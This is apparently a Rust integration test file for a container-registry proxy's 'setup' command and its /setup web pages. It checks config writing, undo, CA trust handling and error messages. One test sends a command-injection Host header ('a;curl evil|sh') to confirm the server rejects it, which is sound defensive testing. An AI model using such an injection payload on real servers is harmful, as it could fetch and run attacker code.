//! `seawall setup` as a command, and `/setup/CLIENT` on the data port.

use std::path::Path;
use std::process::{Command, Output};

use crate::harness::*;
use crate::setup::{put, text, tree};

struct Machine {
    root: tempfile::TempDir,
    ca: std::path::PathBuf,
    config: std::path::PathBuf,
}

impl Machine {
    fn new(pem: &str) -> Machine {
        let root = tempfile::tempdir().unwrap();
        put(root.path(), "ca.pem", pem);
        put(root.path(), "seawall.toml", &format!("data = {:?}\n", root.path().join("nowhere")));
        std::fs::create_dir(root.path().join("image")).unwrap();
        Machine { ca: root.path().join("ca.pem"), config: root.path().join("seawall.toml"), root }
    }

    fn image(&self) -> std::path::PathBuf {
        self.root.path().join("image")
    }

    fn run(&self, words: &[&str]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_seawall"));
        command.args(["--config".as_ref(), self.config.as_os_str(), "setup".as_ref()]).args(words);
        command.output().unwrap()
    }

    /// With the root at hand.
    fn with_ca(&self, words: &[&str]) -> Output {
        self.run(&[words, &["--ca", self.ca.to_str().unwrap()]].concat())
    }
}

fn out(output: &Output) -> String {
    assert!(output.status.success(), "{}", err(output));
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn err(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

/// Where no seawall is: it is not asked.
const AT: [&str; 3] = ["--address", "seawall.lab:3128", "--offline"];

fn a_root() -> String {
    Pki::new().ca_pem()
}

#[test]
fn printed_written_taken_back() {
    let machine = Machine::new(&a_root());
    let image = machine.image();
    let image = image.to_str().unwrap();
    let printed = out(&machine.with_ca(&["docker", AT[0], AT[1], AT[2]]));
    for part in [
        "## File /etc/systemd/system/docker.service.d/seawall.conf",
        "HTTPS_PROXY=http://seawall.lab:3128",
        "BEGIN CERTIFICATE",
    ] {
        assert!(printed.contains(part), "{part}: {printed}");
    }
    let data: serde_json::Value =
        serde_json::from_str(&out(&machine.with_ca(&["docker", "--json", "--mode", "mirror", AT[0], AT[1], AT[2]])))
            .unwrap();
    assert_eq!((&data["mode"], &data["files"][0]["path"]), (&"mirror".into(), &"/etc/docker/daemon.json".into()));

    put(&machine.image(), "/etc/docker/daemon.json", "{\"debug\": true}\n");
    let before = tree(&machine.image());
    let mirror = ["docker", "--mode", "mirror", AT[0], AT[1], AT[2], "--write", image];
    let first = machine.run(&mirror);
    assert!(out(&first).starts_with("changed   /etc/docker/daemon.json\n--- a/etc/docker/daemon.json\n"), "{first:?}");
    assert!(err(&first).contains("Now run on that machine: systemctl reload docker"), "{first:?}");
    let again = machine.run(&mirror);
    assert_eq!(out(&again), "unchanged /etc/docker/daemon.json\n");
    assert!(err(&again).contains("nothing changed") && !err(&again).contains("Rootless"), "{again:?}");

    let proxy = machine.with_ca(&["docker", AT[0], AT[1], AT[2], "--write", image]);
    assert!(err(&proxy).contains("--mode mirror: that is taken back"), "{proxy:?}");
    assert!(err(&proxy).contains("\n  systemctl reload docker\n"), "{proxy:?}");
    assert!(out(&proxy).contains("restored  /etc/docker/daemon.json\n"), "{proxy:?}");
    assert!(out(&proxy).contains("+-----BEGIN CERTIFICATE-----\n+("), "a certificate's text is not shown: {proxy:?}");
    let undone = machine.with_ca(&["docker", AT[0], AT[1], AT[2], "--write", image, "--undo"]);
    assert!(err(&undone).contains("\n  systemctl daemon-reload\n"), "{undone:?}");
    let undone = out(&undone);
    assert!(undone.contains("removed   /etc/systemd/system/docker.service.d/seawall.conf\n"), "{undone}");
    assert_eq!(tree(&machine.image()), before);
    let nothing = machine.run(&["docker", "--write", image, "--undo"]);
    assert_eq!((nothing.status.code(), err(&nothing).contains("nothing to undo")), (Some(1), true));
}

#[test]
fn what_is_left_is_exit_code_1() {
    let machine = Machine::new(&a_root());
    let image = machine.image();
    out(&machine.run(&["podman", "--mode", "mirror", AT[0], AT[1], AT[2], "--write", image.to_str().unwrap()]));
    put(&image, "/etc/containers/registries.conf.d/50-seawall.conf", "# mine\n");
    let undone = machine.run(&["podman", "--write", image.to_str().unwrap(), "--undo"]);
    assert_eq!(undone.status.code(), Some(1));
    assert!(err(&undone).contains("50-seawall.conf"), "{undone:?}");
    assert_eq!(text(&image, "/etc/containers/registries.conf.d/50-seawall.conf"), "# mine\n");
}

/// What is run again must be there.
#[test]
fn an_undo_names_no_file_that_is_gone() {
    for client in ["buildkit", "kaniko", "systemd", "kind", "minikube", "gitlab-runner", "kubernetes", "iptables"] {
        let machine = Machine::new(&a_root());
        let image = machine.image();
        let words = [client, AT[0], AT[1], AT[2], "--write", image.to_str().unwrap()];
        let written = machine.with_ca(&words);
        assert!(err(&written).contains("/etc/seawall/setup/") || client == "buildkit", "{written:?}");
        let undone = machine.with_ca(&[&words[..], &["--undo"]].concat());
        let (removed, rest) = (out(&undone), err(&undone));
        let removed: Vec<_> = removed.lines().filter_map(|line| line.strip_prefix("removed   ")).collect();
        assert!(!removed.is_empty(), "{undone:?}");
        // Notes say what to take out of files of others.
        let commands = rest.lines().take_while(|line| !line.starts_with("- ")).filter(|line| line.starts_with("  "));
        for command in commands {
            assert!(removed.iter().all(|file| !command.contains(file)), "{client}: {command}");
            assert!(
                !command.contains("/etc/seawall/setup") && !command.contains("seawall/buildkit"),
                "{client}: {command}"
            );
        }
    }
}

/// Printed for a seawall that does not run: that is said, and the rest is printed all the same.
#[test]
fn whether_seawall_is_there_is_asked_without_an_address_too() {
    let machine = Machine::new(&a_root());
    put(machine.root.path(), "seawall.toml", "listen = [\"127.0.0.1:9\"]\n");
    let printed = machine.with_ca(&["docker"]);
    assert!(out(&printed).contains("HTTPS_PROXY=http://127.0.0.1:9"), "{printed:?}");
    assert!(err(&printed).contains("warning: no seawall answers at 127.0.0.1:9"), "{printed:?}");
    let offline = machine.with_ca(&["docker", "--offline"]);
    assert!(!err(&offline).contains("warning") && !out(&offline).is_empty(), "{offline:?}");
}

#[test]
fn what_cannot_be_is_said() {
    let machine = Machine::new("no certificate\n");
    for (words, code, said) in [
        (&["dockerd"][..], 2, "docker"),
        (&["docker", "--undo"], 2, "--write"),
        (&["hosts", "--mode", "mirror", "--address", "10.0.0.7:3128"], 1, "dns"),
        (&["docker", "--address", "a b"], 1, "--address takes HOST:PORT"),
        (&["docker", "--address", "0.0.0.0:3128"], 1, "no client can reach"),
        (
            &["docker", "--mode", "mirror", "--write", "/nowhere/at-all", AT[0], AT[1], AT[2]],
            1,
            "/nowhere/at-all: No such file",
        ),
        (
            &["docker", "--mode", "mirror", "--write", machine.ca.to_str().unwrap(), AT[0], AT[1], AT[2]],
            1,
            "Not a directory",
        ),
        (&["docker", "--address", "127.0.0.1:9"], 1, "no seawall answers at 127.0.0.1:9"),
        (&["docker", "--address", "127.0.0.1:9", "--offline"], 1, "--ca FILE"),
        (&["docker", AT[0], AT[1], AT[2], "--ca", machine.ca.to_str().unwrap()], 1, "ca.pem"),
    ] {
        let output = machine.run(words);
        assert_eq!(output.status.code(), Some(code), "{words:?}: {}", err(&output));
        assert!(err(&output).contains(said), "{words:?}: {}", err(&output));
    }
}

/// Each system has its trust store, and each containerd its keys.
#[test]
fn what_is_below_the_root_decides() {
    let machine = Machine::new(&a_root());
    let image = machine.image();
    put(&image, "/etc/os-release", "ID=fedora\n");
    put(&image, "/etc/containerd/config.toml", "version = 3\n");
    out(&machine.with_ca(&["docker", AT[0], AT[1], AT[2], "--write", image.to_str().unwrap()]));
    assert!(text(&image, "/etc/pki/ca-trust/source/anchors/seawall.pem").contains("BEGIN CERTIFICATE"));
    out(&machine.run(&["containerd", AT[0], AT[1], AT[2], "--write", image.to_str().unwrap()]));
    let config = text(&image, "/etc/containerd/config.toml");
    assert!(config.starts_with("version = 3\n") && config.contains("io.containerd.cri.v1.images"), "{config}");
}

/// What reads every file of a client is not handed the key; who needs no root is not asked for one.
#[test]
fn the_root_is_the_certificate_alone_and_where_it_is_needed() {
    let machine = Machine::new(&format!("{}-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n", a_root()));
    let refused = machine.with_ca(&["docker", AT[0], AT[1], AT[2]]);
    assert!(!refused.status.success() && err(&refused).contains("private key"), "{refused:?}");
    for client in ["dnsmasq", "unbound", "bind", "coredns"] {
        assert!(
            out(&machine.run(&[client, "--address", "192.0.2.7:9", "--offline"])).contains("192.0.2.7"),
            "{client}"
        );
    }
    let local = machine.run(&["docker", "--mode", "mirror", "--write", machine.image().to_str().unwrap()]);
    assert!(!local.status.success() || !err(&local).contains("127.0.0.1"), "{local:?}");
}

/// The second time the file is not new any more, and its version stays.
#[test]
fn containerd_keeps_its_version() {
    let machine = Machine::new(&a_root());
    let image = machine.image();
    let words = ["containerd", AT[0], AT[1], AT[2], "--write", image.to_str().unwrap()];
    out(&machine.run(&words));
    let once = text(&image, "/etc/containerd/config.toml");
    assert!(once.contains("version = 2"), "{once}");
    assert!(out(&machine.run(&words)).lines().all(|line| line.starts_with("unchanged")));
    assert_eq!(text(&image, "/etc/containerd/config.toml"), once);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_machine_without_the_root_asks_seawall_for_it() {
    let pki = Pki::new();
    let registry = Registry::new("registry-1.docker.io").start(&pki).await;
    let seawall = Seawall::before(&registry).start(&pki).await;
    let machine = Machine::new("");
    let address = seawall.addr().to_string();
    let client = Client::plain(seawall.addr());
    let pem = String::from_utf8(client.get("http://seawall/ca.crt").send().await.unwrap().bytes().to_vec()).unwrap();
    let (output, refused, written) = tokio::task::spawn_blocking(move || {
        let image = machine.image();
        let write = ["docker", "--address", &address, "--write", image.to_str().unwrap()];
        let output = machine.run(&write[..3]);
        let refused = machine.run(&write);
        assert!(tree(&image).is_empty());
        let sha256 = err(&output).split("sha256 ").nth(1).unwrap().trim().to_owned();
        machine.run(&[&write[..], &["--ca-sha256", &"00".repeat(32)]].concat()).status.code().unwrap();
        assert!(tree(&image).is_empty());
        (output, refused, machine.run(&[&write[..], &["--ca-sha256", &sha256.to_lowercase()]].concat()))
    })
    .await
    .unwrap();
    assert!(out(&output).contains(&pem), "{output:?}");
    let said = err(&output);
    assert!(said.contains("/ca.crt") && said.contains("sha256 ") && said.matches(':').count() > 31, "{said}");
    assert!(!refused.status.success() && err(&refused).contains("--ca-sha256 "), "{refused:?}");
    assert!(out(&written).contains("made"), "{written:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_says_what_the_command_says() {
    let pki = Pki::new();
    let registry = Registry::new("registry-1.docker.io").start(&pki).await;
    let users = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(users.path(), format!("ci:{}\n", bcrypt::hash("secret", 4).unwrap())).unwrap();
    let seawall =
        Seawall::before(&registry).toml(&format!("[clients]\nusers_file = {:?}", users.path())).start(&pki).await;
    let client = Client::plain(seawall.addr());
    let get = async |path: &str| {
        let reply = client.get(&format!("http://seawall.lab:3128{path}")).send().await.unwrap();
        assert_eq!(reply.header("content-type"), "text/plain; charset=utf-8", "{path}");
        (reply.status.as_u16(), String::from_utf8(reply.bytes().to_vec()).unwrap())
    };
    let pem = String::from_utf8(client.get("http://seawall/ca.crt").send().await.unwrap().bytes().to_vec()).unwrap();
    let machine = Machine::new(&pem);
    for (path, words) in [
        ("/setup/docker", &["docker"][..]),
        ("/setup/docker?mode=mirror", &["docker", "--mode", "mirror"]),
        ("/setup/podman/?x=y&mode=mirror", &["podman", "--mode", "mirror"]),
        ("/setup/k3s", &["k3s"]),
    ] {
        let (status, page) = get(path).await;
        let printed = out(&machine.with_ca(&[words, &AT].concat()));
        // A page does not know whose system it is for.
        let printed_files = printed.split("## Then run").next().unwrap();
        assert_eq!((status, page.starts_with(printed_files)), (200, true), "{path}:\n{page}\n---\n{printed}");
    }
    for (path, said) in [
        ("/setup/dockerd", "/setup/docker "),
        ("/setup/hosts?mode=mirror", "?mode=dns"),
        ("/setup/docker?mode=x", "?mode=proxy"),
    ] {
        let (status, page) = get(path).await;
        assert!(status == 404 && page.contains(said), "{path}: {status} {page}");
    }
    let (status, list) = get("/setup").await;
    assert!(status == 200 && list.contains("/setup/containerd") && list.contains("?mode=mirror"), "{list}");
    assert!(get("/").await.1.contains("http://seawall.lab:3128/setup"));
    let hostile =
        client.get("http://seawall.lab:3128/setup/shell").header("host", "a;curl evil|sh").send().await.unwrap();
    assert_eq!(hostile.status, 400);
    assert!(!String::from_utf8_lossy(hostile.bytes()).contains("evil"));
    assert_eq!(registry.requests().len(), 0);
    assert!(Path::new(&machine.image()).exists());
}
